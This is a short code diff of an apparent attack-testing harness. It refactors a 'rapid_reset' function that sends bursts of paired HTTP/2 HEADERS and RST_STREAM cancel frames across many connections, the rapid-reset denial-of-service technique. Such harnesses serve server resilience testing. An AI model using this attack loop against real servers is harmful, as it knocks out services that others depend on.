@@ -8,14 +8,13 @@ from bench.attack.door import Door
 from bench.attack.seen import Seen
 from bench.attack.wire import (
     CANCEL,
-    END_HEADERS,
     GREETING,
-    HEADERS,
     PING,
     RST_STREAM,
     Connection,
     crowd,
     frame,
+    head,
     request,
     settings,
 )
@@ -32,7 +31,7 @@ async def rapid_reset(door: Door, seen: Seen, count: int) -> None:
 
     def pair(number: int) -> bytes:
         stream = 2 * number + 1
-        return frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
+        return head(stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
 
     async with crowd(door.address, seen, CONNECTIONS) as connections:
         for begin in range(0, count, AT_ONCE):
